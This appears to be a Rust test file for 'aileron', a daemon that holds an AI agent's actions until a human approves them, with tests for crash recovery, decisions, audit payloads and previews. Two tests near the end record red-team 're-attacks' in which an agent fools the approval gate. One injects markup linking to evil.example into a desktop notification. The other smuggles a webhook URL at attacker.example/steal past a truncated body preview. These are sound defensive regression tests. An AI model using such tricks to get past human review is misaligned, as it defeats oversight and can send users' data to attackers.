    let check = |entries: &[ApprovalEntry], candidate: &ApprovalEntry, expected: Admission<'_>| {
        assert_eq!(admit(entries, AdmissionRequest::of(candidate)), expected, "{:?}", candidate.args);
    };
    check(&entries, &request(Some("sess-1"), "t3"), Admission::Repeat(&entries[3]));
    check(&entries, &request(Some("sess-1"), "decided already"), Admission::New);
    check(&entries, &request(Some("sess-1"), "new"), Admission::New);
    check(&entries, &request(Some("sess-2"), "t3"), Admission::New);
    check(&entries, &request(None, "t3"), Admission::New);
    entries.push(entry(100, Some("sess-1"), "the twentieth", P));
    check(&entries, &request(Some("sess-1"), "new"), Admission::TooManyPending(MAX_PENDING_PER_SESSION));
    check(&entries, &request(Some("sess-1"), "t3"), Admission::Repeat(&entries[3]));
    check(&entries, &request(Some("sess-2"), "new"), Admission::New);
    check(&entries, &request(None, "new"), Admission::New);
}

/// The daemon's restart procedure, as the module doc describes it, against an in-memory journal.
/// Returns how many times the action executed.
fn restart(journal: &mut String) -> usize {
    let result = replay(journal);
    assert!(result.errors.is_empty(), "{:?}", result.errors);
    journal.truncate(result.intact_len);
    let mut seq = result.last_seq;
    let mut append = |journal: &mut String, event: JournalEvent| {
        seq += 1;
        journal.push_str(&event.sequenced(seq).to_line());
        journal.push('\n');
    };
    for (id, reason) in &result.recovered {
        append(
            journal,
            JournalEvent { at: T3.into(), id: id.clone(), kind: EventKind::Recovered { reason: reason.clone() } },
        );
    }
    let mut executions = 0;
    for id in &result.to_resume {
        let (running, started) = result.entries[id].advance(T3, EventKind::Started).unwrap();
        append(journal, started);
        executions += 1;
        let (_, finished) = running.advance(T3, completed()).unwrap();
        append(journal, finished);
    }
    executions
}

#[test]
fn an_approved_action_runs_exactly_once_whatever_byte_the_crash_hits() {
    let entry = pending_entry(id_at(T0, 1), T0);
    let full = Script::new().entry(&entry, vec![approve(), EventKind::Started, completed()]).text();
    let line_ends: Vec<usize> = full.match_indices('\n').map(|(i, _)| i + 1).collect();
    let (decided_end, started_end) = (line_ends[1], line_ends[2]);
    for crash_at in 0..=full.len() {
        // Before the crash the daemon executed once `started` was durable.
        let ran_before_crash = usize::from(crash_at >= started_end);
        let mut journal = full[..crash_at].to_string();
        let ran_after_restart = restart(&mut journal);
        let expected_runs = usize::from(crash_at >= decided_end);
        assert_eq!(ran_before_crash + ran_after_restart, expected_runs, "crash at byte {crash_at}");
        // A second restart finds nothing left to do and no damage.
        let again = replay(&journal);
        assert!(again.to_resume.is_empty() && again.recovered.is_empty() && !again.torn_tail, "crash at {crash_at}");
        assert_eq!(restart(&mut journal), 0, "crash at byte {crash_at}");
        let final_state = again.entries.get(&entry.id).map(|e| e.state);
        let expected_state = match crash_at {
            _ if crash_at < line_ends[0] => None,
            _ if crash_at < decided_end => Some(P),
            _ if crash_at < started_end => Some(C),
            _ if crash_at < line_ends[3] => Some(F),
            _ => Some(C),
        };
        assert_eq!(final_state, expected_state, "crash at byte {crash_at}");
    }
}

// ---------------------------------------------------------------------------------------------
// deciding

#[test]
fn a_decision_is_accepted_once_from_pending_only() {
    let long_ok = "x".repeat(MAX_REASON_CHARS);
    let long_bad = "x".repeat(MAX_REASON_CHARS + 1);
    let wide_ok = format!("  {}  ", "é".repeat(MAX_REASON_CHARS));
    type Expect<'a> = Result<(ApprovalState, Option<&'a str>), u16>;
    let mut cases: Vec<(ApprovalState, bool, Option<&str>, Expect<'_>)> = vec![
        (P, true, None, Ok((A, None))),
        (P, true, Some("looks right"), Ok((A, Some("looks right")))),
        (P, false, None, Ok((D, None))),
        (P, false, Some("  wrong repo \n"), Ok((D, Some("wrong repo")))),
        (P, false, Some(" \t "), Ok((D, None))),
        (P, false, Some(&long_ok), Ok((D, Some(&long_ok)))),
        (P, false, Some(&wide_ok), Ok((D, Some(wide_ok.trim())))),
        (P, false, Some(&long_bad), Err(400)),
    ];
    for state in ApprovalState::ALL.into_iter().filter(|s| *s != P) {
        cases.push((state, true, None, Err(404)));
        cases.push((state, false, Some("no"), Err(404)));
        cases.push((state, false, Some(&long_bad), Err(404)));
    }
    for (from, approved, reason, expected) in cases {
        let entry = entry_in(from);
        let decision = Decision { approved, reason: reason.map(str::to_string), by: "web".into(), args: None };
        let label = format!("{from} approved={approved} reason={:?}", reason.map(|r| r.len()));
        match (decide(&entry, decision, T1), expected) {
            (Ok((next, event)), Ok((state, stored))) => {
                assert_eq!((next.state, next.reason.as_deref()), (state, stored), "{label}");
                assert_eq!((next.decided_at.as_deref(), next.decided_by.as_deref()), (Some(T1), Some("web")));
                let kind =
                    EventKind::Decided { approved, reason: stored.map(str::to_string), by: "web".into(), args: None };
                assert_eq!(event, JournalEvent { at: T1.into(), id: entry.id.clone(), kind }, "{label}");
                assert_eq!(next.args, entry.args);
            }
            (Err(error), Err(status)) => {
                assert_eq!(error.http_status(), status, "{label}");
                let expected_error = match status {
                    404 => DecideError::NotPending { id: entry.id.clone(), state: from },
                    _ => DecideError::ReasonTooLong { chars: MAX_REASON_CHARS + 1 },
                };
                assert_eq!(error, expected_error, "{label}");
            }
            (other, _) => panic!("{label}: unexpected {other:?}"),
        }
    }
    let not_pending = DecideError::NotPending { id: id_at(T0, 1), state: C };
    assert_eq!(not_pending.to_string(), format!("approval `{}` is unknown or already decided", id_at(T0, 1)));
    assert_eq!(
        DecideError::ReasonTooLong { chars: 1001 }.to_string(),
        "the reason is 1001 characters long; at most 1000 are accepted (hint: shorten it)"
    );
}

#[test]
fn concurrent_decides_on_one_entry_accept_only_the_first() {
    let entry = entry_in(P);
    let (after_first, _) =
        decide(&entry, Decision { approved: true, reason: None, by: "web".into(), args: None }, T1).unwrap();
    let second =
        decide(&after_first, Decision { approved: false, reason: Some("no".into()), by: "cli".into(), args: None }, T2);
    assert_eq!(second, Err(DecideError::NotPending { id: entry.id.clone(), state: A }));
    let double_click =
        decide(&after_first, Decision { approved: true, reason: None, by: "web".into(), args: None }, T2);
    assert_eq!(double_click.map_err(|e| e.http_status()), Err(404));
}

// ---------------------------------------------------------------------------------------------
// audit payloads

#[test]
fn audit_payloads_carry_the_observability_keys() {
    let requested = pending_entry(id_at(T0, 1), T0);
    let id = requested.id.to_string();
    let base = json!({
        "aileron.approval.id": id,
        "aileron.approval.kind": "action",
        "aileron.approval.action": "create-issue",
        "aileron.connector.fqn": "github://aileron/github",
        "aileron.session.id": "sess-1",
    });
    let with = |extra: Value| {
        let mut map = base.as_object().unwrap().clone();
        map.extend(extra.as_object().unwrap().clone());
        Value::Object(map)
    };
    let approved =
        decide(&requested, Decision { approved: true, reason: None, by: "web".into(), args: None }, T1).unwrap().0;
    let denied = decide(
        &requested,
        Decision { approved: false, reason: Some("wrong repo".into()), by: "cli".into(), args: None },
        T2,
    )
    .unwrap()
    .0;
    let anonymous = ApprovalEntry { session_id: None, connector_fqn: None, ..requested.clone() };
    let cases = [
        (Value::Object(requested_payload(&requested)), base.clone()),
        (
            Value::Object(decision_payload(&approved, ApprovalDecision::Approved)),
            with(json!({"aileron.approval.decision": "approved", "aileron.approval.wait_ms": 1500})),
        ),
        (
            Value::Object(decision_payload(&denied, ApprovalDecision::Denied)),
            with(json!({"aileron.approval.decision": "denied", "aileron.approval.wait_ms": 1877,
                        "aileron.approval.reason": "wrong repo"})),
        ),
        (
            Value::Object(decision_payload(&requested, ApprovalDecision::Timeout)),
            with(json!({"aileron.approval.decision": "timeout"})),
        ),
        (
            Value::Object(requested_payload(&anonymous)),
            json!({"aileron.approval.id": id, "aileron.approval.kind": "action",
                   "aileron.approval.action": "create-issue"}),
        ),
    ];
    for (index, (payload, expected)) in cases.into_iter().enumerate() {
        assert_eq!(payload, expected, "case {index}");
    }
    assert_eq!(
        (approved.decision(), denied.decision()),
        (Some(ApprovalDecision::Approved), Some(ApprovalDecision::Denied))
    );
    let types = [
        (ApprovalDecision::Approved, "approved", Some(EventType::ApprovalApproved)),
        (ApprovalDecision::Denied, "denied", Some(EventType::ApprovalDenied)),
        (ApprovalDecision::Timeout, "timeout", Some(EventType::ApprovalExpired)),
        (ApprovalDecision::Cancelled, "cancelled", Some(EventType::ApprovalCancelled)),
    ];
    for (decision, name, event_type) in types {
        assert_eq!((decision.as_str(), decision.audit_event_type()), (name, event_type));
        assert_eq!(serde_json::to_value(decision).unwrap(), json!(name));
    }
}

// ---------------------------------------------------------------------------------------------
// what callers see

#[test]
fn the_pending_message_names_the_action_the_review_url_and_the_shell_alternative() {
    let entry = pending_entry(id_at(T0, 1), T0);
    let id = entry.id.clone();
    let urls = [
        ("http://127.0.0.1:4100", format!("http://127.0.0.1:4100/approvals?focus={id}")),
        ("http://127.0.0.1:4100/", format!("http://127.0.0.1:4100/approvals?focus={id}")),
    ];
    for (daemon_url, expected) in urls {
        assert_eq!(review_url(daemon_url, &id), expected);
    }
    let url = review_url("http://127.0.0.1:4100", &id);
    assert_eq!(
        pending_message("create-issue", &url, &id),
        format!(
            "Action `create-issue` needs the user's approval before it runs; nothing has been done yet. \
             Ask the user to review it at {url} or by running `aileron open approval {id}` in a terminal, \
             then approve or deny it there. Do not call the action again while it waits: that would ask for a \
             second approval. Check the outcome with approval id {id}."
        )
    );
    let body = serde_json::to_value(PendingApproval::new(&entry, url.clone(), "audit-requested-1".into())).unwrap();
    assert_eq!(body["status"], "pending_approval");
    assert_eq!(body["approval_id"], json!(id));
    assert_eq!(body["audit_id"], "audit-requested-1");
    assert_eq!(body["review_url"], json!(url));
    assert_eq!(body["message"], json!(pending_message("create-issue", &url, &id)));
    assert_eq!(body.as_object().unwrap().len(), 5);
}

#[test]
fn the_result_view_shows_what_each_state_has() {
    let pending = entry_in(P);
    let (denied, _) = pending.advance(T1, deny("wrong repo")).unwrap();
    let (approved, _) = pending.advance(T1, approve()).unwrap();
    let (running, _) = approved.advance(T2, EventKind::Started).unwrap();
    let (done, _) = running.advance(T3, completed()).unwrap();
    let (broken, _) = running.advance(T3, failed()).unwrap();
    let failure = Failure::external_api(503, "upstream unavailable").with_audit_id("audit-fail");
    let cases = [
        (&pending, json!({"status": "pending_approval"})),
        (&denied, json!({"status": "denied", "reason": "wrong repo"})),
        (&running, json!({"status": "running"})),
        (&done, json!({"status": "completed", "audit_id": "audit-run", "result": {"number": 7}})),
        (
            &broken,
            json!({"status": "failed", "audit_id": "audit-fail", "failure": serde_json::to_value(&failure).unwrap()}),
        ),
    ];
    for (entry, expected) in cases {
        let view = ResultView::of(entry);
        assert_eq!(serde_json::to_value(&view).unwrap(), expected, "{}", entry.state);
        assert_eq!(serde_json::from_value::<ResultView>(expected).unwrap(), view);
    }
}

// ---------------------------------------------------------------------------------------------
// the preview

#[test]
fn preview_fields_render_strings_raw_and_everything_else_as_compact_json() {
    let preview = create_issue().approval.preview.unwrap();
    let field = |label: &str, value: Option<&str>, multiline| PreviewField {
        label: label.into(),
        value: value.map(str::to_string),
        multiline,
    };
    let cases = [
        (
            json!({"full_name": "acme/web", "visibility": "private", "open_issues_count": 12,
                   "description": "Line one\nLine two"}),
            vec![
                field("Repository", Some("acme/web"), false),
                field("Visibility", Some("private"), false),
                field("Open issues", Some("12"), false),
                field("About", Some("Line one\nLine two"), true),
            ],
        ),
        (
            json!({"full_name": "acme/web", "visibility": null}),
            vec![
                field("Repository", Some("acme/web"), false),
                field("Visibility", None, false),
                field("Open issues", None, false),
                field("About", None, true),
            ],
        ),
        (
            json!({"full_name": ["a", 1], "visibility": {"level": "team", "n": 2}, "open_issues_count": true,
                   "description": ""}),
            vec![
                field("Repository", Some(r#"["a",1]"#), false),
                field("Visibility", Some(r#"{"level":"team","n":2}"#), false),
                field("Open issues", Some("true"), false),
                field("About", Some(""), true),
            ],
        ),
        (
            json!("not an object"),
            vec![
                field("Repository", None, false),
                field("Visibility", None, false),
                field("Open issues", None, false),
                field("About", None, true),
            ],
        ),
    ];
    for (output, expected) in cases {
        assert_eq!(render_preview(&preview, &output), ApprovalPreview::Fields(expected), "{output}");
    }

    let nested = Preview {
        op: "get".into(),
        args: Map::new(),
        render: vec![("Owner".into(), "owner.login".into()), ("First".into(), "items.0.name".into())],
        multiline: vec![],
    };
    let output = json!({"owner": {"login": "octo"}, "items": [{"name": "first"}]});
    assert_eq!(
        render_preview(&nested, &output),
        ApprovalPreview::Fields(vec![field("Owner", Some("octo"), false), field("First", Some("first"), false)])
    );
}

#[test]
fn preview_values_and_unavailable_reasons_are_capped() {
    let preview = Preview {
        op: "get".into(),
        args: Map::new(),
        render: vec![("Body".into(), "body".into())],
        multiline: vec!["Body".into()],
    };
    let cases = [
        ("short".to_string(), "short".to_string()),
        ("é".repeat(MAX_PREVIEW_VALUE_CHARS), "é".repeat(MAX_PREVIEW_VALUE_CHARS)),
        ("é".repeat(MAX_PREVIEW_VALUE_CHARS + 1), format!("{}… (truncated)", "é".repeat(MAX_PREVIEW_VALUE_CHARS))),
    ];
    for (body, shown) in cases {
        let ApprovalPreview::Fields(fields) = render_preview(&preview, &json!({ "body": body })) else {
            panic!("fields expected");
        };
        assert_eq!(fields[0].value.as_deref(), Some(shown.as_str()));
        let ApprovalPreview::Unavailable { reason } = ApprovalPreview::unavailable(format!("  {body}\n")) else {
            panic!("unavailable expected");
        };
        assert_eq!(reason, shown);
    }
    let json = serde_json::to_value(ApprovalPreview::unavailable("timed out after 5 s")).unwrap();
    assert_eq!(json, json!({"unavailable": {"reason": "timed out after 5 s"}}));
}

#[test]
fn an_edit_is_kept_beside_the_request_and_recorded_by_its_hashes() {
    let entry = entry_in(P);
    let mut edited = entry.args.clone();
    edited.insert("title".into(), json!("a better title"));
    let decision =
        |approved: bool, args: Option<Map<String, Value>>| Decision { approved, reason: None, by: "cli".into(), args };
    let (approved, event) = decide(&entry, decision(true, Some(edited.clone())), T1).unwrap();
    assert_eq!(approved.args, entry.args, "the requested arguments stay as asked");
    assert_eq!(approved.run_args(), &edited, "the run uses the edit");
    assert!(matches!(event.kind, EventKind::Decided { args: Some(_), .. }));
    let payload = decision_payload(&approved, ApprovalDecision::Approved);
    assert_eq!(payload["aileron.approval.edited"], json!(true));
    let hash = |args: &Map<String, Value>| {
        ContentHash::of_bytes(Value::Object(args.clone()).to_string().as_bytes()).to_string()
    };
    assert_eq!(payload["aileron.approval.args_sha256"], json!(hash(&entry.args)));
    assert_eq!(payload["aileron.approval.edited_args_sha256"], json!(hash(&edited)));
    assert!(!Value::Object(payload).to_string().contains("a better title"), "never the values");
    assert_eq!(ResultView::of(&approved).edited_args, Some(edited.clone()));
    // Replayed from the journal line, the edit is there again.
    let mut replayed = entry.clone();
    replayed.apply(&serde_json::from_str::<JournalLine>(&event.clone().sequenced(2).to_line()).unwrap().event).unwrap();
    assert_eq!(replayed, approved);

    let (same, _) = decide(&entry, decision(true, Some(entry.args.clone())), T1).unwrap();
    assert_eq!(same.edited_args, None, "the requested arguments again are no edit");
    assert!(!decision_payload(&same, ApprovalDecision::Approved).contains_key("aileron.approval.edited"));
    assert_eq!(decide(&entry, decision(false, Some(edited)), T1).unwrap_err(), DecideError::EditedDenial);
}

/// The eleventh re-attack's lead: a desktop notification's body is markup to servers that take
/// it, and a request's path (the agent's) drew links and images of its own there.
#[test]
fn a_desktop_notification_draws_no_markup_of_the_agents() {
    let mut entry = entry_in(ApprovalState::PendingApproval);
    entry.kind = ApprovalKind::HttpRequest;
    let path = format!("/x<a href=\"https://evil.example\">approve</a>&<img src=x>\u{202e}{}", "a".repeat(400));
    entry.args =
        serde_json::json!({"method": "POST", "host": "api.github.com", "path": path}).as_object().unwrap().clone();
    let (title, body) = super::notify::desktop_text(&entry, Some("claude"));
    assert_eq!(title, "claude asks for your approval");
    assert!(!body.contains('<') && !body.contains('\u{202e}'), "{body}");
    assert!(body.contains("&lt;a href") && body.contains("&amp;&lt;img"), "{body}");
    assert!(body.chars().count() < 500, "{body}");
}

/// The twenty-fourth re-attack: a held request's body was shown cut at 64 KiB with no mark, and an
/// agent put a second `"config"` (read last by the upstream's parser) past the cut. What is not
/// shown is said in the body's text itself, on every surface; so are bytes that are not UTF-8. A
/// repeat joins a waiting request only when its bound identity is the same, not only its shown
/// arguments (repeated headers are shown joined with ", ").
#[test]
fn a_held_requests_card_says_what_of_its_body_it_does_not_show() {
    let connector = Fqn::parse("github://aileron/github-cli").unwrap();
    let held = |body: &[u8], headers: &[(String, String)]| {
        ApprovalEntry::http_request_with_headers(
            HttpRequestApproval {
                id: id_at(T0, 1),
                connector: &connector,
                operation: "create_hook",
                method: "POST",
                host: "api.github.com:443",
                target: "/repos/acme/app/hooks",
                body,
                requested_at: T0.to_string(),
                session_id: "ses-1",
                unconfined: false,
            },
            headers,
        )
    };
    let mut body = br#"{"config":{"url":"https://ci.acme.example/hook"},"description":""#.to_vec();
    body.extend(std::iter::repeat_n(b'x', MAX_HTTP_BODY_PREVIEW_BYTES));
    body.extend(br#"","config":{"url":"https://attacker.example/steal"}}"#);
    let entry = held(&body, &[]);
    let shown = entry.args["body"].as_str().unwrap();
    let hidden = body.len() - MAX_HTTP_BODY_PREVIEW_BYTES;
    let note = format!(
        "[aileron: only the first {MAX_HTTP_BODY_PREVIEW_BYTES} of this body's {} bytes are shown; approving sends the \
         other {hidden} unseen: deny unless you expected a body this large]\n{{\"config\"",
        body.len()
    );
    assert!(shown.starts_with(&note), "{}", &shown[..300]);
    assert!(!shown.contains("attacker.example"));
    let whole = held(br#"{"merge_method":"squash"}"#, &[]);
    assert_eq!(whole.args["body"], r#"{"merge_method":"squash"}"#, "a body shown whole carries no mark");
    let binary = held(b"\xff\xfeok", &[]);
    assert!(binary.args["body"].as_str().unwrap().contains("not all UTF-8 text"), "{:?}", binary.args["body"]);
    let unfinished = held(b"ok\xe2\x82", &[]);
    assert!(unfinished.args["body"].as_str().unwrap().contains("not all UTF-8 text"), "{:?}", unfinished.args["body"]);
    let header = |name: &str, value: &str| (name.to_string(), value.to_string());
    let joined = held(b"{}", &[header("x-h", "a, b")]);
    let repeated = held(b"{}", &[header("x-h", "a"), header("x-h", "b")]);
    assert_eq!(joined.args, repeated.args, "shown alike");
    let entries = [joined.clone()];
    assert_eq!(admit(&entries, AdmissionRequest::of(&repeated)), Admission::New, "bound apart");
    assert_eq!(admit(&entries, AdmissionRequest::of(&joined.clone())), Admission::Repeat(&entries[0]));
}
